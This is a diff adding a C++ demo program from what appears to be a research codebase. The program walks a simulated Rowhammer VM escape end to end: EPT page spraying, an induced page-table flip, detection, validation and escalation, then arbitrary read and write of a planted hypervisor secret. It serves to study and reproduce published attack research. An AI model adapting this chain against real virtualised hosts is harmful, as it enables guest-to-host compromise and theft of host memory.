@@ -1,0 +1,124 @@
+/**
+ * @file
+ * Example: the exploitation machinery end to end, deterministically
+ * (Section 4.3).
+ *
+ * A real attack waits hundreds of attempts for a flipped EPTE to land
+ * on an EPT page (see bench_table3). This demo removes that lottery:
+ * after steering, it *induces* the lucky flip host-side -- rewriting
+ * one sprayed EPTE exactly as Rowhammer would -- and then drives the
+ * attacker's detection, identification, validation, escalation and
+ * arbitrary host read/write, all through guest-legal operations.
+ *
+ * Usage: vm_escape_demo [seed]
+ */
+
+#include <cstdio>
+#include <cstdlib>
+
+#include "hyperhammer/hyperhammer.h"
+
+using namespace hh;
+
+int
+main(int argc, char **argv)
+{
+    const uint64_t seed = argc > 1 ? std::strtoull(argv[1], nullptr, 0)
+                                   : 5;
+    sys::SystemConfig config =
+        sys::SystemConfig::s1(seed).withMemory(2_GiB);
+    sys::HostSystem host(config);
+
+    vm::VmConfig vm_cfg;
+    vm_cfg.bootMemBytes = 128_MiB;
+    vm_cfg.virtioMemRegionSize = 2_GiB;
+    vm_cfg.virtioMemPlugged = 1_GiB;
+    auto machine = host.createVm(vm_cfg);
+
+    std::printf("== VM escape demo (deterministic flip) ==\n\n");
+
+    // The hypervisor secret the guest must not be able to read.
+    auto secret_frame = host.buddy().allocPages(
+        0, mm::MigrateType::Unmovable, mm::PageUse::KernelData);
+    const HostPhysAddr secret_addr(*secret_frame * kPageSize + 0x7c0);
+    const uint64_t secret = 0x48595045'52564953ull; // "HYPERVIS"
+    host.dram().write64(secret_addr, secret);
+    std::printf("[setup] hypervisor secret planted at host PA %#llx\n",
+                static_cast<unsigned long long>(secret_addr.value()));
+
+    // Steer: spray EPT pages over the whole guest.
+    attack::PageSteering steering(*machine, host.clock(),
+                                  attack::SteeringConfig{});
+    const uint64_t demotions =
+        steering.sprayEptes(machine->memorySize(), {});
+    std::printf("[steer] %llu hugepage demotions -> %llu EPT pages\n",
+                static_cast<unsigned long long>(demotions),
+                static_cast<unsigned long long>(
+                    machine->mmu().eptPageCount()));
+
+    // Mark all pages with magic values.
+    attack::Exploiter exploiter(*machine, host.clock(),
+                                attack::ExploitConfig{});
+    exploiter.markPages(machine->hugePageGpas());
+    std::printf("[mark]  per-page magic values written\n");
+
+    // Induce the lucky flip: point one sprayed page's EPTE at another
+    // EPT page (this is the step Rowhammer performs probabilistically
+    // in the real attack).
+    const auto &tables = machine->mmu().eptPageFrames();
+    const Pfn own_pt = tables[tables.size() - 2];
+    const Pfn target_pt = tables[tables.size() - 1];
+    const HostPhysAddr entry_addr(own_pt * kPageSize + 9 * 8);
+    host.dram().backend().write64(
+        entry_addr, kvm::EptEntry::leaf4k(target_pt, false).raw());
+    std::printf("[flip]  induced: EPTE at host PA %#llx now points "
+                "to EPT page PFN %llu\n",
+                static_cast<unsigned long long>(entry_addr.value()),
+                static_cast<unsigned long long>(target_pt));
+
+    // Detection: whose magic value broke?
+    const std::vector<GuestPhysAddr> changed =
+        exploiter.detectMappingChanges();
+    if (changed.empty()) {
+        std::printf("[scan]  no mapping change detected?!\n");
+        return 1;
+    }
+    std::printf("[scan]  mapping change detected at GPA %#llx\n",
+                static_cast<unsigned long long>(changed[0].value()));
+
+    // Identification + validation + escalation.
+    if (!exploiter.looksLikeEptPage(changed[0])) {
+        std::printf("[ident] page does not look like an EPT page\n");
+        return 1;
+    }
+    std::printf("[ident] exposed page matches the EPTE format\n");
+    auto escalation = exploiter.validateAndEscalate(changed[0]);
+    if (!escalation.ok()) {
+        std::printf("[valid] not this VM's EPT page\n");
+        return 1;
+    }
+    std::printf("[valid] confirmed own EPT page: entry %u controls "
+                "GPA %#llx\n",
+                escalation->entryIndex,
+                static_cast<unsigned long long>(
+                    escalation->victimWindow.value()));
+
+    // Arbitrary host memory access.
+    auto leaked = exploiter.readHost(*escalation, secret_addr);
+    std::printf("[read]  host PA %#llx through the guest window: "
+                "%#llx (%s)\n",
+                static_cast<unsigned long long>(secret_addr.value()),
+                static_cast<unsigned long long>(leaked.valueOr(0)),
+                leaked.ok() && *leaked == secret
+                    ? "the hypervisor secret -- escape complete"
+                    : "mismatch");
+    if (!leaked.ok() || *leaked != secret)
+        return 1;
+
+    (void)exploiter.writeHost(*escalation, secret_addr, 0);
+    std::printf("[write] secret overwritten from inside the VM\n");
+    std::printf("\nThe guest now has arbitrary read/write over host "
+                "physical memory (Section 4.3).\n");
+    host.buddy().freePages(*secret_frame, 0);
+    return 0;
+}
